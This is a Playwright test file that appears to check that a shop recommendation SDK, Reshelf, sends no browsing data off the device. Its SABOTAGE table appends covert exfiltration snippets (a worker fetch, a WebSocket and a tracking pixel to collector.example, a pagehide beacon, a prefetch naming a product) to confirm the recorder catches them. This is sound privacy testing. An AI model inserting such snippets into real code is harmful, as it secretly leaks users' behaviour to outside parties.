import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { openRecorder, type Recorder, type Sent } from '../support/outbound.ts';
import { expect, pageAt, test } from '../support/shop.ts';

const PAGES = [
  '/',
  '/p/dress-blue',
  '/p/dress-green',
  '/search',
  '/p/shirt-red',
  '/',
  '/p/jacket-black',
  '/',
];
const STATIC_FILES = ['/reshelf/reshelf.js', '/reshelf/reshelf.worker.js'];

const shop = (path: string) => pageAt(path, {});
const built = (name: string) => readFileSync(`dist/${name}`, 'utf8').replace(/\/\/# sourceMappingURL.*/, '');

/** What a session may send: the pages that it visits, the shop's own form posts, the SDK's files. */
interface Session {
  /** Addresses that the test itself goes to, without query strings. */
  readonly visited: Set<string>;
}

/** Runs `drive` in a browser that can reach nothing but the recorder, and closes everything before it returns. */
async function record(
  recorder: Recorder,
  drive: (page: Page, session: Session) => Promise<void>,
): Promise<Session> {
  const browser = await recorder.launch();
  const session: Session = { visited: new Set() };
  try {
    const context = await browser.newContext();
    const page = await context.newPage();
    await drive(page, session);
    await page.close({ runBeforeUnload: false });
    expect(await context.cookies()).toEqual([]);
    await context.close();
  } finally {
    await browser.close();
  }
  return session;
}

async function visit(page: Page, recorder: Recorder, session: Session, path: string): Promise<void> {
  session.visited.add(`${recorder.origin}${path.split('?', 1)[0]}`);
  await page.goto(`${recorder.origin}${path}`);
  await page.evaluate(() => window.reshelf.ready);
}

async function allow(page: Page): Promise<void> {
  await page.evaluate(() =>
    window.reshelf.consent.set({ personalize: true }, { source: 'api', noticeId: 'test' }),
  );
}

/** All that must not have been sent: not the test's own visits, not the SDK's files, or with more than an address. */
function leaks(recorder: Recorder, { visited }: Session): Sent[] {
  return recorder.sent.filter(({ method, url, query, headers, body }) => {
    const isFile = STATIC_FILES.some((path) => url === `${recorder.origin}${path}`);
    const isCartForm = method === 'POST' && url === `${recorder.origin}/cart/add`;
    const isExpected = isFile || visited.has(url) || isCartForm;
    const carriesMore =
      (isFile && query !== '') || (body !== '' && !isCartForm) || headers.cookie !== undefined;
    return !isExpected || carriesMore || (method !== 'GET' && !isCartForm);
  });
}

/** A long session: everything that Reshelf can do. */
async function longSession(recorder: Recorder, page: Page, session: Session): Promise<void> {
  const go = (path: string) => visit(page, recorder, session, path);
  await go('/');
  await allow(page);
  for (const path of PAGES) await go(path);
  await go('/search?q=blue+linen');
  await go('/p/jacket-red');
  await page.locator('select[name="size"]').selectOption({ index: 1 });
  session.visited.add(`${recorder.origin}/cart/add`);
  await page.getByRole('button', { name: 'Add to cart' }).click();
  await page.waitForURL('**/cart/add');
  await go('/order');
  await go('/');
  await page.locator('ul.products a').nth(2).scrollIntoViewIfNeeded();
  const href = await page.locator('ul.products a').nth(2).getAttribute('href');
  session.visited.add(`${recorder.origin}${href?.split('?', 1)[0]}`);
  await page.locator('ul.products a').nth(2).click();
  await page.waitForURL('**/p/**');
  await go('/');
  await page.evaluate(async () => {
    const { reshelf } = window;
    await reshelf.signal({
      kind: 'view',
      item: { id: 'dress-red', title: 'red linen dress' },
      dwellMs: 9000,
    });
    await reshelf.signal({ kind: 'search', query: 'secret wish' });
    await reshelf.rank([
      { id: 'dress-red', position: 0 },
      { id: 'dress-blue', position: 1 },
    ]);
    reshelf.lists();
    await reshelf.explain('dress-blue');
    reshelf.undo();
    await reshelf.forget('all');
  });
  await go('/p/skirt-white');
  await page.evaluate(() => window.reshelf.consent.withdraw());
  await go('/');
}

test('nothing leaves but the visits themselves and the SDK’s own files, also past the closing of the page', async () => {
  const recorder = await openRecorder(shop);
  const session = await record(recorder, (page, session) => longSession(recorder, page, session));
  expect(recorder.sent.length).toBeGreaterThan(20);
  for (const path of STATIC_FILES) expect(recorder.sent.some(({ url }) => url.endsWith(path))).toBe(true);
  expect(leaks(recorder, session)).toEqual([]);
  await recorder.close();
});

test('two different histories on the same pages make identical requests', async () => {
  const told: string[][] = [];
  for (const [favourite, times] of [
    ['dress-blue', 1],
    ['shirt-black', 9],
  ] as const) {
    const recorder = await openRecorder(shop);
    await record(recorder, async (page, session) => {
      await visit(page, recorder, session, '/');
      await allow(page);
      for (let i = 0; i < times; i++)
        await page.evaluate(
          (id) => window.reshelf.signal({ kind: 'cart', item: { id, title: id } }),
          favourite,
        );
      for (const path of PAGES) await visit(page, recorder, session, path);
    });
    told.push(
      recorder.sent.map(({ method, url, query, headers, body }) =>
        JSON.stringify([method, url, query, body, headers.cookie, headers.referer, headers['content-type']]),
      ),
    );
    await recorder.close();
  }
  const [first, second] = told;
  expect(first?.length).toBeGreaterThan(PAGES.length);
  expect([...(second ?? [])].sort()).toEqual([...(first ?? [])].sort());
});

test('under connect-src ’none’ the list is still put in order and nothing throws', async ({ openShop }) => {
  const csp =
    "default-src 'none'; script-src 'self'; worker-src 'self'; style-src 'unsafe-inline'; connect-src 'none'";
  const shop = await openShop({ headers: { 'content-security-policy': csp } });
  await shop.visit('/');
  await shop.allow();
  await shop.browse('skirt-white', 'jacket-white', 'skirt-white');
  const before = await shop.order();
  await shop.visit('/');
  await expect.poll(() => shop.order()).not.toEqual([...before].sort());
  expect(await shop.heard('reordered')).toHaveLength(1);
  expect(shop.errors).toEqual([]);
});

const SABOTAGE: Readonly<Record<string, Record<string, string>>> = {
  'a fetch in the worker': {
    'reshelf.worker.js': `${built('reshelf.worker.js')};addEventListener('message', () => fetch('/collect', { method: 'POST', body: 'behaviour', keepalive: true }).catch(() => {}));`,
  },
  'a WebSocket in the worker': {
    'reshelf.worker.js': `${built('reshelf.worker.js')};new WebSocket('ws://collector.example/');`,
  },
  'a beacon when the page goes': {
    'reshelf.js': `${built('reshelf.js')};addEventListener('pagehide', () => navigator.sendBeacon('/collect', 'behaviour'));`,
  },
  'a prefetch that names a product': {
    'reshelf.js': `${built('reshelf.js')};addEventListener('load', () => { const link = document.createElement('link'); link.rel = 'prefetch'; link.href = '/collect?seen=dress-blue'; document.head.append(link); });`,
  },
  'a picture of another origin': {
    'reshelf.js': `${built('reshelf.js')};new Image().src = 'http://collector.example/pixel.gif?seen=dress-blue';`,
  },
};

for (const [what, files] of Object.entries(SABOTAGE)) {
  test(`the recorder catches ${what}`, async () => {
    const recorder = await openRecorder(shop, { files });
    const session = await record(recorder, async (page, session) => {
      await visit(page, recorder, session, '/');
      await allow(page);
      for (const path of PAGES.slice(0, 3)) await visit(page, recorder, session, path);
    });
    await expect.poll(() => leaks(recorder, session).length).toBeGreaterThan(0);
    await recorder.close();
  });
}
